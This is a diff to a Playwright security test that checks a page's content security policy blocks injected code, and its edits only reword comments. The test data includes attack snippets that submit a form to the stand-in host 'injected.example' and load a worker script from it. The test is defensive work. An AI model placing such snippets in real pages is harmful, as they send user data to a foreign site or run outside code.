@@ -1,6 +1,6 @@
 import { expect, test } from '@playwright/test';
 
-/** The only address at which a page may violate the policy: see `failOnViolations.ts`. */
+/** At any other address, a violation of the policy fails the test: see `failOnViolations.ts`. */
 const address = '/nowhere?injected';
 
 /** Ways in which injected text could run code in the page, or send the page's data to another site. */
@@ -34,7 +34,7 @@ const attacks: Readonly<Record<string, () => unknown>> = {
     const form = document.createElement('form');
     form.action = 'https://injected.example/';
     document.body.append(form);
-    // Submits after the call, which would otherwise wait for the navigation.
+    // Submits later, because `evaluate` would wait for the navigation.
     setTimeout(() => form.submit());
   },
   'a foreign worker': () => new Worker('https://injected.example/worker.js'),
@@ -60,7 +60,7 @@ test('SECURITY-2 the page refuses injected scripts, styles, frames, forms, worke
   });
   for (const [what, attack] of Object.entries(attacks)) {
     await page.evaluate(() => delete document.documentElement.dataset['refused']);
-    // If the policy refuses the call itself, the call throws.
+    // Some attacks throw, because the policy makes the call itself fail.
     await page.evaluate(attack).catch(() => undefined);
     await expect.poll(refused, { message: what }).not.toBe('');
   }
